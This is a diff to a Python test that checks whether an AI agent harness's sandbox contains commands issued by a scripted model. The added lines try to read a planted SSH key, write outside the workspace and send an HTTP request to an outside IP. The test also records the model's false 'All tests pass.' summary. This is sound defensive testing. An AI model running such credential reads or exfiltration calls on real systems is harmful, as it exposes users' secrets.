@@ -64,6 +64,8 @@ def test_a_granted_program_is_held_by_the_sandbox(tmp_path: Path) -> None:
     world = World(tmp_path)
     world.skill("Bash Read Write")
     (world.home / "secret.txt").write_text("inert\n")
+    (world.home / ".ssh").mkdir()
+    (world.home / ".ssh" / "id_test").write_text("inert\n")
     before = world.contents()
     tried = [
         f"cat {world.home}/secret.txt",
@@ -73,6 +75,9 @@ def test_a_granted_program_is_held_by_the_sandbox(tmp_path: Path) -> None:
         "python3 -c \"import socket; socket.create_connection(('203.0.113.7', 53), 2)\"",
         "git -c user.name=x -c user.email=x@y.example commit -qam x",
         "false",
+        f"cat {world.home}/.ssh/id_test",
+        f"echo out > {world.home}/outside.txt; false",
+        "python3 -c \"import urllib.request as u; u.urlopen('http://203.0.113.7/?q=inert', timeout=2)\"",
     ]
     model = play([("Bash", {"command": command}) for command in tried], "All tests pass.")
     with world.library() as library:
@@ -80,11 +85,13 @@ def test_a_granted_program_is_held_by_the_sandbox(tmp_path: Path) -> None:
         assert world.contents() == before
         assert world.git("log", "--oneline").count("\n") == 1
         codes = {one.command: one.code for one in result.report.commands}
-        assert [codes.get(command) for command in tried] == [1, 0, 2, 1, 1, 0, 1]
+        assert [codes.get(command) for command in tried] == [1, 0, 2, 1, 1, 0, 1, 1, 1, 1]
         assert [(one.path, one.change) for one in result.report.files] == [
             *(("a.txt", "changed"), ("new.txt", "added"), ("src/main.py", "deleted"))
         ]
-        assert {one.command for one in result.report.failures()} == {tried[at] for at in (0, 2, 3, 4, 6)}
+        assert {one.command for one in result.report.failures()} == {tried[at] for at in (0, 2, 3, 4, 6, 7, 8, 9)}
+        assert not any("inert" in text for text in replies(model)[:1]) and not (world.home / "outside.txt").exists()
+        assert result.report.summary == "All tests pass."  # which the exit codes above contradict
         assert result.report.sandbox.level == level().name
         library.runs.resume(result.run.id, apply=True)
     assert world.contents() == {"a.txt": "changed\n", "new.txt": "made\n"}
